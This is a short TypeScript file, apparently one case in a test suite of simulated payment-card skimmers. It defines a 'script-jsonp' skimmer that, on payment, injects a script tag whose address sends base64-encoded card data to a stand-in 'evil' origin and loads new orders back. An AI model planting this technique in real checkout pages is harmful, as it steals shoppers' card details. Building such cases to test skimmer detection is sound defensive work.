import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'script-jsonp',
  why: "A script's address carries the loot out and its body brings new orders in.",
  covers: ['disguise: file ending', 'hard: unusual channel'],
  base: 'direct',
  install: (site) => {
    site.serve('evil/jsonp.js', 'window._cfg = { next: 1 };');
    site.inline(
      onPay(js`
    var s = document.createElement('script');
    s.src = '${site.origins.evil}/jsonp.js?cb=_c&d=' + encodeURIComponent(btoa(card()));
    document.head.append(s);`),
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
